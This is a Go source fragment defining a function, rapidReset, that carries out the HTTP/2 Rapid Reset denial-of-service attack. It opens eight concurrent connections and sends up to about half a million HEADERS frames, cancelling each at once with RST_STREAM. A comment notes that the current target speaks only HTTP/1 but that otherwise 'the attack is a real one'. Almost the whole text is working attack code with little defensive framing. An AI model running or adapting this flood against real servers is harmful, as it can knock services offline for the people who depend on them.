package main

import (
	"bytes"
	"context"
	"errors"
	"io"
	"net"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// rapidReset opens and resets streams of HTTP/2 as fast as it can. The server speaks HTTP/1 alone,
// so each connection ends at its preface; should that change, the attack is a real one.
func rapidReset(ctx context.Context, addr string) error {
	var block bytes.Buffer
	headers := hpack.NewEncoder(&block)
	for _, field := range [][2]string{
		{":method", "GET"}, {":scheme", "http"}, {":authority", "a"}, {":path", recipePath + "?" + gpuQuery},
	} {
		if err := headers.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}); err != nil {
			return err
		}
	}
	return swarm(ctx, 8, addr, func(conn *net.TCPConn) error {
		_, err := io.WriteString(conn, http2.ClientPreface)
		framer := http2.NewFramer(conn, conn)
		err = errors.Join(err, framer.WriteSettings())
		for stream := uint32(1); err == nil && stream < 1<<20; stream += 2 {
			request := http2.HeadersFrameParam{
				StreamID: stream, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true,
			}
			err = errors.Join(framer.WriteHeaders(request), framer.WriteRSTStream(stream, http2.ErrCodeCancel))
		}
		return nil
	})
}
